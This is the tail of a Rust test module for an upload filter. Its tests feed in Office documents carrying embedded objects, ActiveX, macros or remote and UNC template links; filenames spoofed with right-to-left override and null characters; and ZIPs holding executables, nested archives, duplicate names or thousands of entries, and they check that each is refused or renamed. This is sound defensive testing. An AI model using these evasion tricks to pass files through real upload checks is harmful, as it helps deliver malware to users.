            ("手順書.docx", docx("word/embeddings/oleObject1.bin", "\u{1}Ole10Native"), Err(Refusal::Active)),
            ("手順書.docx", docx("word/activeX/activeX1.xml", "<ax/>"), Err(Refusal::Active)),
            // a hyperlink out is what a document is for
            ("手順書.docx", docx("word/_rels/document.xml.rels", &link), Ok(Kind::Docx)),
            // and so is the local template a 様式 was made from
            ("様式.docx", docx("word/_rels/settings.xml.rels", &local_template), Ok(Kind::Docx)),
            // the word "hyperlink" in the target, an entity in the mode: still out
            ("手順書.docx", docx("word/_rels/settings.xml.rels", &disguised), Err(Refusal::Active)),
            ("手順書.docx", docx("word/_rels/settings.xml.rels", &entity), Err(Refusal::Active)),
            ("手順書.docx", docx("word/_rels/settings.xml.rels", &unc), Err(Refusal::Active)),
            ("資料.zip", zip_of(&[("請求書.xls", "\u{d0}\u{cf}")]), Err(Refusal::ZipContent)),
            ("資料.zip", zip_of(&[("report/index.html", "<script>")]), Err(Refusal::ZipContent)),
            ("資料.zip", zip_of(&[("setup.exe\0.pdf", "MZ")]), Err(Refusal::ZipContent)),
            ("資料.zip", encrypted, Err(Refusal::Unscannable)),
            ("資料.zip", zip_of(&[("padding.txt", &big)]), Err(Refusal::Unscannable)),
            ("資料.zip", zip_of(&[("logs/app.log", "ok"), ("config.xml", "<a/>")]), Ok(Kind::Zip)),
            // An Office file inside a ZIP is held to what it is held to alone.
            (
                "資料.zip",
                zip_of_bytes(&[("手順書.docx", &docx("word/_rels/settings.xml.rels", &template))]),
                Err(Refusal::ZipContent),
            ),
            ("資料.zip", zip_of_bytes(&[("a/表.xlsx", &docx("xl/vbaProject.bin", "VBA"))]), Err(Refusal::ZipContent)),
            ("資料.zip", zip_of(&[("手順書.docx", "not office at all")]), Err(Refusal::ZipContent)),
            ("資料.zip", zip_of_bytes(&[("様式.docx", &docx("word/_rels/document.xml.rels", &link))]), Ok(Kind::Zip)),
            // More Office files inside than are opened: not read, refused.
            (
                "資料.zip",
                {
                    let one = docx("word/_rels/document.xml.rels", &link);
                    let names: Vec<String> = (0..21).map(|i| format!("{i}.docx")).collect();
                    zip_of_bytes(&names.iter().map(|n| (n.as_str(), one.as_slice())).collect::<Vec<_>>())
                },
                Err(Refusal::Unscannable),
            ),
            // One name twice: the reader sees the last only, an extractor may write the first.
            (
                "資料.zip",
                {
                    let bad = docx("word/_rels/settings.xml.rels", &template);
                    let good = docx("word/_rels/document.xml.rels", &link);
                    twice(&[("手順書.docx", &bad), ("手順書.docx", &good)])
                },
                Err(Refusal::Unscannable),
            ),
            (
                "手順書.docx",
                twice(&[("word/document.xml", b""), ("word/document.xml", b"")]),
                Err(Refusal::Unscannable),
            ),
        ];
        for (name, bytes, want) in &cases {
            assert_eq!(admit(bytes, name), *want, "{name}");
        }
    }

    #[test]
    fn download_names_end_in_the_extension_of_the_content() {
        let cases: &[(&str, Option<Kind>, &str)] = &[
            ("report.pdf", Some(Kind::Pdf), "report.pdf"),
            ("REPORT.PDF", Some(Kind::Pdf), "REPORT.PDF"),
            ("a.exe", Some(Kind::Pdf), "a.exe.pdf"),
            ("x.hta", Some(Kind::Txt), "x.hta.txt"),
            ("x.hta.", Some(Kind::Txt), "x.hta.txt"),
            ("x.hta . ", Some(Kind::Txt), "x.hta.txt"),
            ("x.html", Some(Kind::Txt), "x.html.txt"),
            ("memo.txt", Some(Kind::Txt), "memo.txt"),
            ("README", Some(Kind::Txt), "README.txt"),
            ("表.csv", Some(Kind::Csv), "表.csv"),
            ("photo.jpeg", Some(Kind::Jpeg), "photo.jpeg"),
            ("photo.JPG", Some(Kind::Jpeg), "photo.JPG"),
            ("photo.png", Some(Kind::Jpeg), "photo.png.jpg"),
            ("book.xlsm", Some(Kind::Xlsx), "book.xlsm.xlsx"),
            ("letter.docx", Some(Kind::Docx), "letter.docx"),
            ("letter.docx", Some(Kind::Zip), "letter.docx.zip"),
            ("deck.pptx", Some(Kind::Pptx), "deck.pptx"),
            ("...", Some(Kind::Txt), "file.txt"),
            ("blob.pdf", None, "blob.pdf.bin"),
            ("請求書\u{202E}fdp.exe", Some(Kind::Pdf), "請求書fdp.exe.pdf"),
            ("a\u{2067}b\u{200F}.txt\u{0}", Some(Kind::Txt), "ab.txt"),
        ];
        for (original, kind, want) in cases {
            assert_eq!(download_name(original, *kind), *want, "{original} as {kind:?}");
        }
    }

    #[test]
    fn a_zip_holding_a_program_a_macro_file_or_another_archive_is_refused() {
        for inside in [
            "setup.exe",
            "docs/請求書.pdf.exe",
            "docs\\run.BAT. ",
            "a\u{202E}fdp.hta",
            "集計.xlsm",
            "more.zip",
            "old/logs.tar.gz",
            "x.7z",
        ] {
            let zip = zip_of(&[("手順書.pdf", "text"), (inside, "text")]);
            assert_eq!(admit(&zip, "資料.zip"), Err(Refusal::ZipContent), "{inside}");
        }
        let book = zip_of(&[("[Content_Types].xml", CONTENT_TYPES), ("xl/workbook.xml", "")]);
        let files: [(&str, &[u8]); 5] =
            [("手順書.pdf", b""), ("画面/一覧.png", b""), ("メモ.txt", b""), ("表.xlsx", &book), ("README", b"")];
        assert_eq!(admit(&zip_of_bytes(&files), "資料.zip"), Ok(Kind::Zip));
        // Under an Office name, what is not Office (an old .xls, which
        // Excel opens by its content, macros and all) is refused.
        let old = zip_of(&[("表.xlsx", "\u{d0}\u{cf}\u{11}\u{e0}")]);
        assert_eq!(admit(&old, "資料.zip"), Err(Refusal::ZipContent));
    }

    /// 20 MB of empty entries (400,000 of them) were taken into the zip
    /// reader's memory three times over for one upload. A zip of more than
    /// ten thousand is refused before it is read; one of ten thousand is
    /// taken.
    #[test]
    fn a_zip_of_more_than_ten_thousand_entries_is_refused_before_it_is_read() {
        let many = |n: usize| {
            let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
            let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
            for i in 0..n {
                w.start_file(format!("{i}.txt"), stored).unwrap();
            }
            w.finish().unwrap().into_inner()
        };
        assert_eq!(admit(&many(MAX_ZIP_ENTRIES + 1), "資料.zip"), Err(Refusal::ZipEntries));
        assert_eq!(admit(&many(MAX_ZIP_ENTRIES), "資料.zip"), Ok(Kind::Zip));
    }

    /// Thousands of `[Content_Types].xml` in as many cases, each a
    /// megabyte of nothing packed small, were each read up to the limit:
    /// seconds of a request worker for one upload. Two are refused unread.
    #[test]
    fn a_zip_declaring_its_types_more_than_once_is_refused() {
        let big = "a".repeat(2 * 1024 * 1024);
        let twice = zip_of(&[("[Content_Types].xml", &big), ("[CONTENT_TYPES].XML", &big), ("xl/workbook.xml", "")]);
        assert!(twice.len() < 64 * 1024, "packed small: {}", twice.len());
        for name in ["book.xlsx", "資料.zip"] {
            assert_eq!(admit(&twice, name), Err(Refusal::Type), "{name}");
        }
        let once = zip_of(&[("[Content_Types].xml", &big), ("xl/workbook.xml", "")]);
        assert_eq!(admit(&once, "book.xlsx"), Ok(Kind::Xlsx), "one, read to the limit");
    }

    #[test]
    fn clamd_addresses() {
        assert_eq!(Clamd::parse("unix:/run/clamav/clamd.ctl"), Some(Clamd::Unix("/run/clamav/clamd.ctl".into())));
        assert_eq!(Clamd::parse("tcp:127.0.0.1:3310"), Some(Clamd::Tcp("127.0.0.1:3310".into())));
        assert_eq!(Clamd::parse("127.0.0.1:3310"), None);
    }
}
